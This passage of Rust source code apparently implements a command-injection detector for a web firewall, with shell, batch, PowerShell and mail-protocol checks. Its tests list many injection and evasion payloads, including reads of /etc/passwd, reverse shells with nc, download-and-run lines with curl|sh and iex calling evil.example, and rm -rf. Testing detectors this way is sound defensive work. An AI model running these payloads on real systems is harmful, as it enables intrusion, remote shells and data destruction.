    let mut count = 0;
    for w in rest.split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).take(8) {
        buf[count] = w;
        count += 1;
    }
    let words = &buf[..count];
    let mut k = 0;
    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"/i")) {
        k += 1;
    }
    if words.get(k).is_some_and(|w| w.eq_ignore_ascii_case(b"not")) {
        k += 1;
    }
    let Some(cond) = words.get(k) else { return false };
    if [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"].iter().any(|kw| cond.eq_ignore_ascii_case(kw)) {
        return words.len() > k + 1;
    }
    // A comparison: `a==b` in one word or `a == b`, or a comparison operator word, followed by
    // something to do.
    let cmp_ops: [&[u8]; 6] = [b"equ", b"neq", b"lss", b"leq", b"gtr", b"geq"];
    words.iter().skip(k).take(4).enumerate().any(|(n, w)| {
        let is_cmp = find_ci(w, b"==", 0).is_some() || (n > 0 && cmp_ops.iter().any(|op| w.eq_ignore_ascii_case(op)));
        is_cmp && words.len() > k + n + 1
    }) || rest.starts_with(b"/i ") && find_ci(rest, b"==", 0).is_some()
}

/// PowerShell: `Verb-Noun` cmdlets that fetch, run or write, and the shell itself with options.
fn powershell(v: &[u8]) -> Option<Hit> {
    if !v.contains(&b'-') && find_ci(v, b"iex", 0).is_none() {
        return None;
    }
    const VERBS: &[&[u8]] = &[
        b"invoke-",
        b"start-",
        b"new-",
        b"get-",
        b"set-",
        b"out-",
        b"add-",
        b"remove-",
        b"stop-",
        b"import-",
        b"export-",
        b"convertto-",
        b"convertfrom-",
        b"copy-",
        b"move-",
    ];
    const NOUNS: &[&[u8]] = &[
        b"webrequest",
        b"restmethod",
        b"expression",
        b"command",
        b"item",
        b"itemproperty",
        b"process",
        b"object",
        b"content",
        b"childitem",
        b"service",
        b"wmiobject",
        b"ciminstance",
        b"file",
        b"type",
        b"executionpolicy",
        b"mppreference",
        b"localuser",
        b"scheduledtask",
        b"module",
        b"securestring",
        b"bitstransfer",
        b"clixml",
        b"psdrive",
        b"psession",
        b"pssession",
        b"nettcpconnection",
        b"history",
    ];
    if let Some(at) = invoke_expression(v) {
        return Some(Hit::new(1, at, (at + 24).min(v.len())));
    }
    let mut i = 0;
    while i < v.len() {
        if (i == 0 || !is_word(v[i - 1])) && v[i].is_ascii_alphabetic() {
            // A verb is letters and a `-`: only a run of letters ending in `-` can be one.
            let run = v[i..].iter().position(|b| !b.is_ascii_alphabetic()).map_or(v.len(), |p| i + p);
            if v.get(run) == Some(&b'-') {
                for verb in VERBS.iter().filter(|verb| verb.len() == run + 1 - i) {
                    if starts_with_ci(&v[i..], verb) {
                        let rest = &v[i + verb.len()..];
                        let noun_end = rest.iter().position(|&b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
                        let noun = &rest[..noun_end];
                        if NOUNS.iter().any(|n| noun.eq_ignore_ascii_case(n)) {
                            return Some(Hit::new(1, i, (i + verb.len() + noun_end).min(v.len())));
                        }
                    }
                }
            }
            // No verb starts inside the run.
            i = run;
            continue;
        }
        i += 1;
    }
    None
}

/// PowerShell's `iex` (Invoke-Expression) where a command starts, given code: `iex(iwr ...)`,
/// `iex (New-Object ...)`, `iex 'whoami'`, `iex $a`; or at a pipe's end after what fetched or
/// built it (`iwr evil.example | iex`, `(...).Content | iex`). The stock exchange of the same
/// name (`IEX (Investors Exchange)`, `NYSE | IEX`) and Elixir's prompt (`iex(1)>`) are not.
fn invoke_expression(v: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(at) = find_ci(v, b"iex", from) {
        from = at + 3;
        if (at > 0 && is_word(v[at - 1])) || v.get(at + 3).is_some_and(|&b| is_word(b)) {
            continue;
        }
        let before = v[..at].trim_ascii_end();
        if !before.last().is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'(')) {
            continue;
        }
        let rest = v[at + 3..].trim_ascii_start();
        let argument = rest.strip_prefix(b"(").map_or(rest, <[u8]>::trim_ascii_start);
        // A variable, a script block, a parameter, a sub-expression, or one quoted token
        // (`iex 'whoami'`; `IEX "Investors Exchange"` is a name, `IEX $12.50` a price).
        let quoted_code = |q: u8| {
            let inner = &argument[1..];
            let close = inner.iter().position(|&b| b == q).unwrap_or(inner.len());
            let inner = &inner[..close];
            !inner.is_empty() && (!inner.contains(&b' ') || inner.iter().any(|b| b"-($|;.".contains(b)))
        };
        let code = match argument {
            [b'$', c, ..] => c.is_ascii_alphabetic() || matches!(c, b'_' | b'{' | b'('),
            [b'-', c, ..] => c.is_ascii_alphabetic(),
            [q @ (b'\'' | b'"'), ..] => quoted_code(*q),
            [b'[' | b'(' | b'{', ..] => true,
            _ => [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
                .iter()
                .any(|p| starts_with_ci(argument, p)),
        };
        let piped = before.last() == Some(&b'|')
            && rest.first().is_none_or(|b| matches!(b, b';' | b')'))
            && fetched(&before[..before.len() - 1]);
        if code || piped {
            return Some(at);
        }
    }
    None
}

/// SMTP, IMAP and POP3 commands smuggled after a line break into a mail-sending parameter.
fn mail_protocol(v: &[u8]) -> Option<Hit> {
    const CMDS: &[&[u8]] = &[
        b"mail from:",
        b"rcpt to:",
        b"ehlo ",
        b"helo ",
        b"data\r",
        b"data\n",
        b"auth ",
        b"retr ",
        b"list ",
        b"top ",
        b"apop ",
        b"user ",
        b"pass ",
        b"dele ",
        b"stat\r",
        b"quit\r",
    ];
    const IMAP: &[&[u8]] = &[
        b"login",
        b"select",
        b"append",
        b"fetch",
        b"store",
        b"status",
        b"uid",
        b"authenticate",
        b"examine",
        b"search",
        b"capability",
        b"logout",
        b"delete",
        b"rename",
        b"copy",
        b"list",
    ];
    let mut i = 0;
    while i < v.len() {
        if v[i] == b'\n' || v[i] == b'\r' {
            let mut j = i;
            while j < v.len() && (v[j] == b'\r' || v[j] == b'\n') {
                j += 1;
            }
            let line = &v[j..];
            if CMDS.iter().any(|c| starts_with_ci(line, c)) {
                return Some(Hit::new(2, j, (j + 24).min(v.len())));
            }
            // IMAP: a tag, then a command. A tag is short: looking further for its space made
            // a value of many short lines cost the square of its length.
            const TAG: usize = 12;
            let tag_end = line[..line.len().min(TAG)].iter().position(|&b| b == b' ').unwrap_or(line.len().min(TAG));
            if tag_end > 0 && tag_end < TAG && line[..tag_end].iter().all(u8::is_ascii_alphanumeric) {
                let cmd = &line[(tag_end + 1).min(line.len())..];
                if IMAP.iter().any(|c| starts_with_ci(cmd, c) && cmd.get(c.len()).is_none_or(|&b| !is_word(b))) {
                    return Some(Hit::new(2, j, (j + 24).min(v.len())));
                }
            }
            i = j;
            continue;
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmdi(s: &str, level: u8) -> bool {
        check(s.as_bytes(), Shape::of(s.as_bytes()), true, level).is_some()
    }

    /// Tester t1: 64 KiB of line breaks cost 0.22 s (each line break read the rest of the run);
    /// a run of blank lines is one separator, and a command after it is still found.
    #[test]
    fn blank_lines_are_one_separator() {
        for unit in ["\n", " \n", "\n \n", "\r\n"] {
            let run = unit.repeat(65536 / unit.len());
            assert!(!cmdi(&run, 4), "{unit:?}");
            assert!(cmdi(&format!("x{run}cat /etc/passwd"), 1), "{unit:?} then a command");
        }
    }

    #[test]
    fn ordinary_text_passes() {
        for s in [
            "Tom & Jerry",
            "rock & roll; then more",
            "drop me a line; I'll call",
            "time is of the essence",
            "ping pong tables",
            "tar is a dark brown or black bituminous usually odorous viscous liquid",
            "Some text (in brackets).",
            "hello [text in brackets]",
            "page[1]",
            "take this math expression: 1[a/-1]",
            "kills foo bar",
            "python developer",
            "The cat sat on the mat",
            "R&D; cat food",
            "{\"a\": 1, \"b\": 2}",
            "{1,2,3}",
            "Hello ${name}, welcome",
            "a|b|c",
            "if you want, call me",
            "iffoo a==b foo",
            "C:\\Windows\\System32\\ls",
            "Get-Started guide",
            "https://example.com/search?q=x&y=1",
            "550e8400-e29b-41d4-a716-446655440000",
            "12:30:45",
            "job_title=head of",
            "For the love of it, in (my) opinion do it",
            "markdown with `code` inside",
            "friends{id,name}",
            "fields=id,name,friends{id,name}",
            "*.{jpg,png}",
            "Colors: {red,green}",
            "Use `HEAD` requests",
            "Run `make` first",
            "Curl up with a good book",
            "wget is a command line tool",
            "Curl up with a good book, then sleep.",
            "`x` (more than 64), `y` file of its `z`",
            "`host` is the request's host",
            "`HEAD` is refused with 403",
            "Fixed, see:\n```python\nprint(1)\n```",
        ] {
            assert!(!cmdi(s, 1), "{s}");
        }
    }

    #[test]
    fn injections_and_evasions_are_caught_at_paranoia_one() {
        for s in [
            ";id",
            "; cat /etc/passwd",
            "| cat /etc/passwd",
            "&& whoami",
            "x || ls -la",
            "$(whoami)",
            "`id`",
            "1;c''at /etc/passwd",
            ";w\\hoami",
            ";who$@ami",
            "x;cat${IFS}/etc/passwd",
            "/???/b?n/c?t /etc/passwd",
            "cat /etc/pa[s]swd",
            "{cat,/etc/passwd}",
            "${jndi:ldap://evil/x}",
            "<(cat file)",
            "() { :; }; /bin/bash -c id",
            "ls -l /etc/passwd",
            "& w^h^o^a^m^i",
            "| dir c:\\",
            "& net user hacker /add",
            "Invoke-WebRequest http://example.com/x.ps1",
            "powershell -enc AAAA",
            "for /f %i in ('whoami') do echo %i",
            "IF EXIST C:\\pagefile.sys CMD",
            "if a==b foo",
            "~+",
            "!-1",
            "pi``ng 127.0.0.1",
            "python3.10 cmd",
            "printf dW5hbWUgLWE=|base64 -d|sh",
            "\nwget http://evil/x",
            "wget evil.com/x.sh",
            "nc 10.0.0.1 4444",
            "c{a,ou}t /etc/passwd",
            "{,ifconfig}",
            "x `whoami` y",
            "wh``oami",
            // Mid-line triple backticks are a shell's (bash runs `echo a```id```` as a`id`).
            "a```whoami```",
            "127.0.0.1```id```",
            "x;```id```",
            "```;id",
            "```\ncurl evil.com|sh\n```",
            // One quoted word that is a command, not English.
            "127.0.0.1 `uname` ",
            "a `printenv` b",
            "1 `reboot` ",
            "{wg$@et,evil.com}",
            "x | yes |",
            // A table row's bars are a shell's when the row is put inside a command line.
            "|| ping -c 10 127.0.0.1 ||",
            "| ping -c 10 127.0.0.1 |",
            "x;{n$@c,evil.com,4444}",
            // A common word as a command line of its own, with what the command takes: the
            // probes scanners send first.
            "; sleep 5",
            "1;sleep 5",
            "| sleep 5",
            "&& sleep 5",
            "x; host x.attacker.com",
        ] {
            assert!(cmdi(s, 1), "{s}");
        }
        // The same word in a sentence after a `;` counts from paranoia 2.
        for s in [
            "we came late; sleep 5 hours then work again",
            "home; sleep well",
            "Tom; host of the show",
            "Lunch with Ana; at 12:30",
            "Meet tomorrow; at 5",
            "Pick-up 5pm; date 12/05",
            "Tom & Jerry; top 10",
            "home; sleep well; ok 5",
        ] {
            assert!(!cmdi(s, 1), "{s}");
        }
        // A command opening a sentence of plain words counts from paranoia 2.
        assert!(!cmdi("wget internal x y z", 1) && cmdi("wget internal x y z", 2));
    }

    /// A command word a shell builds from variables (`$0` is the shell itself, `a=id;$a` runs
    /// `id`), or runs through its own prefixes, is the command it builds (tester l1: each of
    /// these ran `id` or worse under dash and bash, and passed at every level).
    #[test]
    fn commands_built_from_variables_or_run_through_a_prefix_are_caught() {
        for s in [
            "x;$0 -c id",
            "x;${0} -c id",
            "x;\"$0\" -c id",
            "x|$0 -c id",
            "x&&$0 -c 'id'",
            "x;$0 -c \"wh\"\"oami\"",
            "x;a=id;$a",
            "x;x=i;y=d;$x$y",
            "x;a=cat;b=/et;c=c/pas;d=swd;$a $b$c$d",
            "x;a=curl;$a -s evil.example|$0",
            "x;a=rm;$a -rf ~",
            "x;a=wget;$a -qO- evil.example|$0",
            "x;a=nc;$a -e $0 evil.example 4444",
            "x;a=\"id\";${a}",
            "x;exec id",
            "x;command id",
            "x;command -p id",
            "x;eval id",
            "x `$0 -c id`",
            "& set a=whoami& call %a%",
            "& %COMSPEC% /c whoami",
            "& c:\\windows\\system32\\whoami.exe",
            "; iex(iwr evil.example)",
            "x; iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
            "x; iwr http://evil.example/a | iex",
            "x; (iwr http://evil.example/x).Content | IEX;",
            "x; iex 'whoami'",
            "x; $a='whoami'; iex $a",
            // Tester m1: each ran `id` (or `whoami`) in bash or dash, or does in cmd or PowerShell.
            "x;a=id;b=$a;$b",
            "x;a=i\\d;$a",
            "x;a=i\"d\";$a",
            "x;a=i;a=${a}d;$a",
            "x;v1=1;v2=1;v3=1;v4=1;v5=1;v6=1;v7=1;v8=1;z=whoami;$z",
            "x;a+=whoami;$a",
            "x;a=(id);$a",
            "x;read a<<<whoami;$a",
            "x;for a in whoami;do $a;done",
            "x;case x in x)a=whoami;;esac;$a",
            "x;$'\\x69d'",
            "x;: bash;$_ -c id",
            "x;builtin exec id",
            "x;a=`echo id`;$a",
            "x;a=nc;$a evil 4444",
            // Tester n1: after a compound command's keyword, a plain word or a redirection after
            // a variable that holds a command's name, `${BASH}`.
            "x;if $a; then :; fi; a=id",
            "x;a=id;while $a; do :; done",
            "x;a=id;$a root",
            "x;a=env;$a id",
            "x;a=id;$a 2>&1",
            "x;${BASH} -c id",
            "x;f(){ $1;};f id",
            "x; $a='whoami'; & $a",
            "x; & $env:ComSpec /c whoami",
            "x; .{whoami}",
            "x;/./././././././././././././././././././usr/bin/id",
            "x;//////////////////////////////////////////usr/bin/id",
            "x& C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c whoami",
            "x& %SystemRoot%\\System32\\whoami.exe",
            "x& set a=whoamiX& call %a:~0,6%",
            "x& %COMSPEC:~-7% /c whoami",
            "x; & (gcm who*)",
            "x; .('i'+'ex') 'whoami'",
            "x; curl -s evil.example|$0",
            // Review: a literal glued to an expansion, a value with quotes, backslashes or
            // parentheses, the ninth assignment's value: the word holds a variable the value
            // fills, so it runs whatever the value makes.
            "x;v1=1;v2=1;v3=1;v4=1;v5=1;v6=1;v7=1;v8=1;z=d;i$z",
            "x;a=\"\"d;i$a",
            "x;a=\\d;i$a",
            "x;a=(d);i$a",
            "x;a=ca;${a}t flag",
            "iex -Command whoami",
            "x; iex {whoami}",
        ] {
            assert!(cmdi(s, 1), "{s}");
        }
        for s in [
            // Prices and templates, not expansions a shell runs.
            "Subtotal $25; $0 shipping",
            "Total: $10; $5 off next time",
            "PHP: $a=1; $a++",
            "50% off; 20% more",
            "a=1; see $b",
            "C:\\Users\\me\\report.docx; C:\\Program Files\\Git",
            "Great service; command center was helpful",
            "Listed on Nasdaq; IEX (Investors Exchange) too",
            "x; iex is a stock exchange",
            "IEX (Investors Exchange)",
            "Venues: NYSE | NASDAQ | IEX",
            "Exchanges: NYSE|IEX|ARCA",
            "iex(1)> Enum.map([1,2], &(&1*2))",
            // Prices (tester m1): `$0` is the shell only with an option or at a pipe's end.
            "$0",
            "$0/mo",
            "$0 down, $199/mo",
            "$0 down; $199/mo for 24 months",
            "Fee|$0|waived",
            "$0 | $5 | $10",
            "$0 deductible; 80/20 coinsurance",
            "Shipping; $0 to 10001",
            "${0}",
            "%COMSPEC%",
            "Items: $5; $1",
            // Variables no one set run nothing (CRS's own benign example), nor do PHP's.
            ";$a $b $c",
            "PHP: $a = 1; $b = $a + 1;",
            "Then $a; $b->run();",
            // Review: Windows paths, tickers and prices, PowerShell snippets, prose with `for`.
            "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs",
            "C:\\Users\\ann\\Time Sheets\\may.xlsx",
            "IEX $12.50",
            "IEX \"Investors Exchange\"",
            "NYSE (US) | IEX",
            "Tiers: $10 | $5 | $0",
            "Basic|$0",
            "{\n $_ -like '*.log'\n}",
            "items | Where-Object {\n$_\n}",
            "for a while we read the docs; for all of us; $all items are in\n$docs ok",
            "x; for more see the docs",
            // Tester n1: variables that hold no command's name, versions and figures after a
            // capitalised name, a possessive.
            "x=1;$x",
            "i=0; $i",
            "title=Hello&$title",
            "q=shoes&sort=price|$sort",
            "USD=1.00; $USD",
            "Curl 8.5.0 released",
            "Kubectl 1.29 released",
            "Uptime 99.95% SLA",
            "Uptime was 99.9% last month",
            "a dollar; $'s worth",
            "Tom & $5 each; . $3 more",
            "Price: $2; $1 off",
        ] {
            assert!(!cmdi(s, 1), "{s}");
        }
    }

    /// Everyday text that opens with a word that is also a command (tester l1: each was a 403
    /// at paranoia 1).
    #[test]
    fn a_sentence_opening_with_a_command_name_passes() {
        for s in [
            "w/ cheese",
            "w/o onions",
            "burger w/ fries",
            "Type 'yes' to confirm",
            "Sort 'asc' or 'desc'",
            "Set 'a' = 'b'",
            "NC 27601",
            "NC State",
            "dig deeper",
            "curl bar",
            "env vars",
            "passwd reset",
            "unzip the bag",
            "nl team",
            "od green",
        ] {
            assert!(!cmdi(s, 1), "{s}");
        }
        // What attacks at a value's start look like still counts.
        for s in [
            "type 'C:\\boot.ini'",
            "sort '/etc/passwd'",
            "dir/s c:\\",
            "nc 10.0.0.1 4444",
            "curl evil.example",
            // Windows reads a command's name in any case (tester m1).
            "CURL http://evil.example/x.ps1",
            "Nslookup evil.example",
            "Nc 10.0.0.1 4444",
            "Wget evil.example/x.exe",
            "ls foo bar",
        ] {
            assert!(cmdi(s, 1), "{s}");
        }
    }

    #[test]
    fn mail_commands_after_a_line_break_count_from_paranoia_two() {
        let s = "\r\nMAIL FROM:<a@b.com>";
        assert!(!cmdi(s, 1));
        assert!(cmdi(s, 2));
        // An IMAP command after its tag, of up to 11 letters and digits.
        assert!(mail_protocol(b"x\na1 LOGIN alice secret").is_some());
        assert!(mail_protocol(b"x\nA0000000001 select INBOX").is_some());
        assert!(mail_protocol(b"x\nA00000000001 select INBOX").is_none(), "a 12-byte tag");
        assert!(mail_protocol(b"x\na1 loginx").is_none() && mail_protocol(b"x\nsee below").is_none());
        // Many short lines (the tag's space was looked for to the value's end from each one).
        assert!(mail_protocol("x\n".repeat(32 * 1024).as_bytes()).is_none());
    }

    #[test]
    fn admin_tool_names_without_a_dash_are_all_in_the_quick_table() {
        for name in [
            &b"visudo"[..],
            b"useradd",
            b"usermod",
            b"adduser",
            b"crontab",
            b"iptables",
            b"systemctl",
            b"cscli",
            b"whoami",
            b"ifconfig",
            b"ipconfig",
            b"netstat",
            b"systeminfo",
            b"tasklist",
            b"lastlog",
            b"getent",
            b"modprobe",
        ] {
            assert!(is_admin_tool(name) && ADMIN_TOOLS.contains(name), "{}", String::from_utf8_lossy(name));
        }
        for word in RARE.iter().chain(COMMON.iter()).filter(|w| !w.contains(&b'-')) {
            assert_eq!(is_admin_tool(word), ADMIN_TOOLS.contains(word), "{}", String::from_utf8_lossy(word));
        }
    }

    #[test]
    fn command_tables_are_sorted_for_binary_search() {
        assert!(RARE.windows(2).all(|w| w[0] < w[1]));
        assert!(COMMON.windows(2).all(|w| w[0] < w[1]));
        assert!(!RARE.iter().any(|r| COMMON.contains(r)));
    }

    #[test]
    fn globs_match_like_a_shell() {
        assert!(glob_matches(b"???", b"bin"));
        assert!(glob_matches(b"b[a-z]n", b"bin"));
        assert!(glob_matches(b"[!q]tc", b"etc"));
        assert!(glob_matches(b"*", b"usr"));
        assert!(!glob_matches(b"??", b"bin"));
        assert!(!glob_matches(b"[!e]tc", b"etc"));
    }
}
